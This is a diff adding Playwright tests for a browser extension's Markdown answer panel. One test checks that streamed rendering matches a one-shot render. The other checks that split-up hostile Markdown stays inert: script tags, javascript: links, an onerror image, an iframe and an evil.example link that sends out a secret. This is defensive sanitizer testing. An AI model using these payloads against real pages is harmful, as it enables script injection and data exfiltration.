@@ -1,0 +1,144 @@
+import type { Page } from '@playwright/test';
+import { linksIn } from '../../lib/tasks/common/source-links';
+import type {
+  safeMarkdown as SafeMarkdownFactory,
+  renderMarkdownSafely as RenderMarkdown,
+} from '../../lib/render/markdown';
+import type { MarkdownStream as Stream } from '../../lib/render/markdown-stream';
+import type { RenderedBlocks as Blocks } from '../../lib/render/rendered-blocks';
+import { markdownReply, REPLY_LINK, replyTokens } from '../fixtures/markdown/markdown-reply';
+import { expect, test, useScriptedEngine } from './support/extension-test';
+
+/** What the test build's panel exposes for these tests (entrypoints/sidepanel/main.tsx). */
+interface RenderHooks {
+  tacitRender: {
+    renderMarkdownSafely: typeof RenderMarkdown;
+    safeMarkdown: typeof SafeMarkdownFactory;
+    MarkdownStream: typeof Stream;
+    RenderedBlocks: typeof Blocks;
+  };
+}
+
+/** One-shot rendering of `text` in the panel page itself, as a container's innerHTML. */
+function oneShotInPanel(panel: Page, text: string, links: string[]): Promise<string> {
+  return panel.evaluate(
+    ([source, allowed]) => {
+      const { renderMarkdownSafely } = (globalThis as unknown as RenderHooks).tacitRender;
+      const container = document.createElement('div');
+      container.innerHTML = renderMarkdownSafely(source, { links: new Set(allowed) });
+      return container.innerHTML;
+    },
+    [text, links] as const,
+  );
+}
+
+async function ask(panel: Page, question: string): Promise<void> {
+  await panel.getByLabel('Ask Tacit').fill(question);
+  await panel.getByRole('button', { name: 'Send' }).click();
+}
+
+/** Waits until the answer is written to the end. */
+async function answered(panel: Page): Promise<void> {
+  await expect(panel.locator('section.stream[aria-busy="false"] [data-testid="ask-answer"]')).toBeVisible({
+    timeout: 60_000,
+  });
+  await expect(panel.getByRole('button', { name: 'Stop' })).toBeDisabled();
+}
+
+test('a 4,000-token Markdown answer streams into the same DOM as a one-shot render', async ({
+  openPanel,
+  serviceWorker,
+}) => {
+  test.setTimeout(120_000);
+  const reply = markdownReply(4000);
+  await useScriptedEngine(serviceWorker, { reply, tokenDelayMs: 1 });
+  const panel = await openPanel();
+  const question = `Summarize ${REPLY_LINK} for me`;
+  await ask(panel, question);
+  await expect(panel.getByTestId('ask-answer')).toContainText('Part 1');
+  await answered(panel);
+
+  const answer = panel.getByTestId('ask-answer');
+  expect(await answer.innerHTML()).toBe(await oneShotInPanel(panel, reply, linksIn(question)));
+  expect(await answer.locator(`a[href="${REPLY_LINK}"]`).count()).toBeGreaterThan(20);
+  await expect(answer.locator('a[href*="evil.example"]')).toHaveCount(0);
+  await expect(answer.locator('table')).not.toHaveCount(0);
+  await expect(answer.locator('pre code')).not.toHaveCount(0);
+
+  // Per-update render cost in this browser, before (one-shot render of the whole text and innerHTML, as the panel
+  // did) and after (the incremental renderer): printed for the record, not asserted.
+  const costs = await panel.evaluate(
+    ([tokens, allowed]) => {
+      const { renderMarkdownSafely, safeMarkdown, MarkdownStream, RenderedBlocks } = (
+        globalThis as unknown as RenderHooks
+      ).tacitRender;
+      const median = (values: number[]) => values.sort((a, b) => a - b)[Math.floor(values.length / 2)]!;
+      const links = new Set(allowed);
+      return [100, 1000, 4000].map((size) => {
+        const before: number[] = [];
+        const container = document.createElement('div');
+        for (let run = 0; run < 7; run++) {
+          const text = tokens.slice(0, size - 7 + run).join('');
+          const started = performance.now();
+          container.innerHTML = renderMarkdownSafely(text, { links });
+          before.push(performance.now() - started);
+        }
+        const stream = new MarkdownStream(safeMarkdown(links));
+        const view = new RenderedBlocks(document.createElement('div'));
+        // The last 50 updates together: one update is below the timer's resolution in an extension page.
+        let text = '';
+        let afterTotal = 0;
+        tokens.slice(0, size).forEach((token, index) => {
+          text += token;
+          const started = performance.now();
+          view.apply(stream.update(text));
+          if (index >= size - 50) afterTotal += performance.now() - started;
+        });
+        return { tokens: size, beforeMs: median(before), afterMs: afterTotal / 50 };
+      });
+    },
+    [replyTokens(reply), linksIn(question)] as const,
+  );
+  console.log(`Per-update render cost in Chromium: ${JSON.stringify(costs)}`);
+});
+
+test('hostile Markdown split across deltas stays inert while it streams and at the end', async ({
+  openPanel,
+  serviceWorker,
+}) => {
+  const tokens = [
+    'Intro\n\n<scr',
+    'ipt>window.pwned = 1</scr',
+    'ipt>\n\n[click](java',
+    'script:window.pwned=2)\n\n![pixel](ht',
+    'tp://evil.example/p.gif)\n\n<im',
+    'g src=x oner',
+    'ror="window.pwned=3">\n\n[leak](https://evil.exa',
+    'mple/?d=secret) and https://evil.',
+    'example/bare\n\n[ref]\n\n[ref]: java',
+    'script:window.pwned=4\n\n<ifr',
+    'ame src="https://evil.example/"></iframe>\n\n```\n<script>\n``',
+    '`\n\nThe end.',
+  ];
+  await useScriptedEngine(serviceWorker, { tokens, tokenDelayMs: 40 });
+  const panel = await openPanel();
+  await panel.evaluate(() => {
+    const unsafe: string[] = [];
+    (window as unknown as { unsafe: string[] }).unsafe = unsafe;
+    const answer = document.querySelector('[data-testid="ask-answer"]')!;
+    new MutationObserver(() => {
+      const found = answer.querySelectorAll('script, img, iframe, object, embed, [src], [onerror], [href]');
+      found.forEach((element) => unsafe.push(element.outerHTML));
+    }).observe(answer, { childList: true, subtree: true, attributes: true, characterData: true });
+  });
+  await ask(panel, 'Write something');
+  await expect(panel.getByTestId('ask-answer')).toContainText('The end.');
+  await answered(panel);
+
+  expect(await panel.evaluate(() => (window as unknown as { unsafe: string[] }).unsafe)).toEqual([]);
+  expect(await panel.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
+  const answer = panel.getByTestId('ask-answer');
+  await expect(answer).toContainText('<script>window.pwned = 1</script>');
+  await expect(answer).toContainText('leak (https://evil.example/?d=secret)');
+  expect(await answer.innerHTML()).toBe(await oneShotInPanel(panel, tokens.join(''), []));
+});
